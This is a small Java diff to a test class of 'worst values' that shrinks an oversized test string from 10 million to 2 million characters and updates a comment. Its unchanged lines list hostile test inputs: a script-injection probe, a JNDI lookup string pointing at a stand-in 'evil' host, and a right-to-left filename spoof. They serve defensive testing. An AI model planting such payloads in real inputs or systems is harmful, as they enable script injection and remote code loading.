@@ -26,7 +26,7 @@ public final class WorstValues {
             "<script>alert(1)</script>",
             "${jndi:ldap://evil}",
             "\u202Egnp.exe",
-            "x".repeat(10_000_000));
+            "x".repeat(2_000_000));
 
     private WorstValues() {}
 
@@ -98,7 +98,7 @@ public final class WorstValues {
         return all;
     }
 
-    /** A text of 10 MB takes its time; in a field it is tried, in each place of a list it need not be. */
+    /** A text of 2 MB takes its time; in a field it is tried, in each place of a list it need not be. */
     private static boolean isSmall(Object value) {
         return !(value instanceof String text && text.length() > 1_000_000);
     }
